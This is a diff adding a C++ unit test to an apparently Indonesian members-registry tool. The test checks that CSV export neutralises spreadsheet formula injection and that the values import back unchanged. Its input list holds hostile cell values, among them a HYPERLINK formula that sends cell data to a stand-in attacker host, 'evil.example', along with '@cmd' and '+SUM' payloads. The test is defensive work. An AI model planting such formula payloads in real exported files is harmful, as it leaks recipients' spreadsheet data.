@@ -651,3 +651,51 @@ TEST_CASE("a members list goes out to a spreadsheet and back unchanged", "[impor
     CHECK(with.find(";Siti;'3276074501850002;'+6281234567890;") != std::string::npos);
     CHECK(with.find("Kecamatan") == std::string::npos); // no gazetteer, no names
 }
+
+TEST_CASE("a members list sent to a spreadsheet runs no formula and reads back the same",
+          "[import][formula]")
+{
+    auto const doc = io::read_document_file(std::string(SENTRA_TEST_DIR) +
+                                            "/data/documents/cipayung.json")
+                         .value()
+                         .document;
+    // Names and addresses a member (or anyone who fills in the members list) could write.
+    std::vector<enterprise> list;
+    std::string const hostile[] = {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")",
+                                   "+SUM(1+1)", "-2+3", "@cmd", "-=1 Konveksi",
+                                   "\"=1+1\" Konveksi", "'=1+1 sudah ditandai", "'Rajut"};
+    for (std::size_t i = 0; i < std::size(hostile); ++i) {
+        enterprise e = doc.enterprises[i % doc.enterprises.size()];
+        e.id = enterprise_id::parse("formula-" + std::to_string(i)).value();
+        e.nib.reset();
+        e.name = hostile[i];
+        e.address = hostile[(i + 1) % std::size(hostile)];
+        list.push_back(e);
+    }
+    for (char d : {';', ','}) {
+        std::string const csv = io::write_enterprises_csv(
+            list, &regions(), {.delimiter = d, .personal_data = true});
+        // Every cell as a spreadsheet reads it: none starts a formula.
+        report r;
+        io::csv_reader rd(csv, "sheet.csv", d);
+        std::vector<io::csv_field> fields;
+        std::size_t cells = 0;
+        while (rd.next(fields, r) != io::csv_status::end)
+            for (auto const& f : fields) {
+                CHECK_FALSE(io::starts_formula(f.text));
+                ++cells;
+            }
+        CHECK(r.ok());
+        CHECK(cells > list.size() * 10);
+        // And back through the import: the same names and addresses.
+        auto cx = depok();
+        cx.document = &doc;
+        auto const back = import_text(csv, cx);
+        CHECK(back.problems.error_count() == 0);
+        REQUIRE(back.rows.size() == list.size());
+        for (std::size_t i = 0; i < list.size(); ++i) {
+            CHECK(back.rows[i].enterprise.name == list[i].name);
+            CHECK(back.rows[i].enterprise.address == list[i].address);
+        }
+    }
+}
